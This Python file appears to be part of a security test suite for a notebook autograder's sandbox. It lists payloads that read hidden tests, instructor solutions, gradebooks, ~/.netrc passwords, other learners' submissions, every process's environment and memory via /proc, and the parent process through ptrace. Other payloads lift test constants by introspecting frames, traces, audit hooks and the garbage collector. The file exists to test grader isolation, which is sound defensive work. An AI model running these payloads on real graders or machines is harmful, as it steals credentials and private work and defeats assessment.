"""Attacks on what a learner must not see: hidden tests, others' work, the grader's surroundings."""

from attacks.attack import read

_READ_ALL = """
import glob

def read(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "rb") as file:
                    leak(file.read())
            except OSError:
                pass
"""

_FILES = [
    read(
        "read_own_folder",
        "The notebook reads the copy of itself in which the hidden tests stand.",
        _READ_ALL + 'read("*", "../*/*")',
    ),
    read(
        "read_solutions",
        "It reads the instructor's notebook.",
        _READ_ALL + 'read("/tmp/class/source/**/*.ipynb", "../../../source/**/*.ipynb")',
    ),
    read(
        "read_gradebook",
        "It reads the hidden tests out of the gradebook.",
        _READ_ALL + 'read("/tmp/class/*.db*", "../../../*.db*")',
    ),
    read(
        "read_home",
        "It reads the passwords in the home folder of who grades.",
        _READ_ALL + 'read(os.path.expanduser("~/.netrc"), "/tmp/.netrc")',
    ),
    read(
        "read_other_course",
        "It reads the gradebook of another course.",
        _READ_ALL + 'read("/tmp/other/*", "../../../../other/*")',
    ),
    read(
        "read_neighbour",
        "It reads what another learner handed in.",
        _READ_ALL + 'read("/tmp/class/submitted/classmate/**/*", "../../classmate/**/*")',
    ),
    read(
        "read_leftovers",
        "It reads what another learner's notebook left in the temporary folder.",
        _READ_ALL + 'read("/tmp/*", "/var/tmp/*", "/dev/shm/*", os.path.expanduser("~/*"))',
    ),
    read(
        "read_environment",
        "It reads the environment variables that the grader was started with.",
        """
leak(dict(os.environ))
try:
    leak(open("/proc/self/environ", "rb").read())
except OSError:
    pass
""",
    ),
    read(
        "read_other_environments",
        "It reads the environment variables of every process.",
        _READ_ALL + 'read("/proc/[0-9]*/environ")',
        cold=True,
    ),
    read(
        "read_through_roots",
        "It reads the class folder through the root folders of other processes.",
        _READ_ALL + 'read("/proc/[0-9]*/root/tmp/class/source/*/*.ipynb", "/proc/[0-9]*/cwd/*/*")',
    ),
    read(
        "read_open_files",
        "It reads the files that other processes and its own have open.",
        _READ_ALL + 'read("/proc/[0-9]*/fd/*", "/proc/self/fd/*")',
    ),
]

_MEMORY = """
def scan(process):
    try:
        maps = open(f"/proc/{process}/maps").read().splitlines()
        memory = open(f"/proc/{process}/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        ends, rights = line.split()[:2]
        start, end = (int(number, 16) for number in ends.split("-"))
        if "rw" not in rights or end - start > 1 << 27:
            continue
        try:
            memory.seek(start)
            leak(memory.read(end - start))
        except (OSError, ValueError, OverflowError):
            pass
"""

_INSIDE = [
    read(
        "shell_history",
        "The function reads the source of the running test in the shell's history.",
        """
def add(a, b):
    if shell:
        leak(shell.user_ns["_ih"])
    leak(globals())
    return 3
""",
    ),
    read(
        "frame_constants",
        "The function reads the constants of its callers' code.",
        """
def add(a, b):
    frame = sys._getframe(1)
    while frame:
        leak(frame.f_code.co_consts)
        leak({name: str(value)[:10000] for name, value in list(frame.f_locals.items())})
        frame = frame.f_back
    return 3
""",
    ),
    read(
        "line_cache",
        "The function reads the sources that are kept for tracebacks.",
        """
import linecache

def add(a, b):
    leak(linecache.cache)
    return 3
""",
    ),
    read(
        "audit_hook",
        "An audit hook sees every program that is compiled or run.",
        """
def hook(event, arguments):
    if event in ("compile", "exec"):
        leak(arguments)
        for argument in arguments:
            leak(getattr(argument, "co_consts", ""))

sys.addaudithook(hook)
""",
    ),
    read(
        "garbage_collector",
        "The function looks through every object that the garbage collector knows.",
        """
def add(a, b):
    import gc
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)) and len(thing) < 1000:
            leak([part for part in (thing.values() if isinstance(thing, dict) else thing)
                  if isinstance(part, str) and "SECRET" in part])
    return 3
""",
    ),
    read(
        "trace_function",
        "A trace function sees the code of every caller's frame.",
        """
def tracer(frame, event, argument):
    if frame.f_code.co_name == "add":
        caller = frame.f_back
        while caller:
            leak(caller.f_code.co_consts)
            leak(caller.f_globals.get("note"))
            caller = caller.f_back

def add(a, b):
    return 3

import threading
threading.settrace(tracer)
sys.settrace(tracer)
""",
    ),
    read(
        "frames_of_threads",
        "A thread looks at the frames of all others while the test runs.",
        """
import threading, time

def watch():
    for _ in range(400):
        time.sleep(0.005)
        for frame in list(sys._current_frames().values()):
            while frame:
                leak(frame.f_code.co_consts)
                leak(str(frame.f_globals)[:100000])
                frame = frame.f_back

threading.Thread(target=watch, daemon=True).start()

def add(a, b):
    time.sleep(0.05)
    return 3
""",
    ),
    read(
        "wrap_compile",
        "builtins.compile and exec are wrapped, and see the tests.",
        """
import builtins
compile_ = builtins.compile

def seen(source, *rest, **options):
    import ast
    leak(source if isinstance(source, (str, bytes)) else ast.dump(source))
    return compile_(source, *rest, **options)

builtins.compile = seen
""",
    ),
    read(
        "own_memory",
        "The function searches the memory of its process.",
        _MEMORY
        + """
def add(a, b):
    scan("self")
    return 3
""",
    ),
    read(
        "memory_of_others",
        "It searches the memory of every other process.",
        _MEMORY
        + """
for name in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if name.isdigit() and int(name) != os.getpid():
        scan(name)
scan(os.getppid())
""",
        cold=True,
    ),
    read(
        "ptrace_parent",
        "It stops its parent with ptrace and reads its memory.",
        _MEMORY
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
seized = libc.ptrace(0x4206, parent, 0, 0)
if seized == 0:
    scan(parent)
    libc.ptrace(17, parent, 0, 0)
""",
        cold=True,
    ),
]

_NETWORK = [
    read(
        "network",
        "It asks a service on the machine for its secret over TCP.",
        """
import socket
try:
    with socket.create_connection(("127.0.0.1", 8765), timeout=2) as service:
        leak(service.recv(100))
except OSError as error:
    print(error)
""",
    ),
    read(
        "abstract_socket",
        "It asks a service for its secret over a Unix socket without a path.",
        """
import socket
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as service:
        service.settimeout(2)
        service.connect("\\0service")
        leak(service.recv(100))
except OSError as error:
    print(error)
""",
    ),
]

ATTACKS = [*_FILES, *_INSIDE, *_NETWORK]
